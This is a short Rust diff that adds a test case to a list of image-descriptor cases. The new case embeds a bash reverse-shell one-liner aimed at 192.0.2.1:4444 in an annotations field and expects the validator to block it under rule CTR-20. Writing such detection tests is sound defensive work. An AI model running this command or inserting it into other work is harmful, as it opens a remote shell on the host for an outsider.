@@ -229,6 +229,12 @@ fn descriptors() -> Vec<Case> {
         with_field("annotations", Value::Object(many)),
         Accepted,
     ));
+    out.push(Case::image(
+        'B',
+        "a shell that calls home in an annotation",
+        with_field("annotations", json!({"run": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"})),
+        Blocks("CTR-20"),
+    ));
     for (name, value) in [("null", Value::Null), ("text", json!("x")), ("a list", json!([1]))] {
         let list = json!([value]);
         let text = format!(
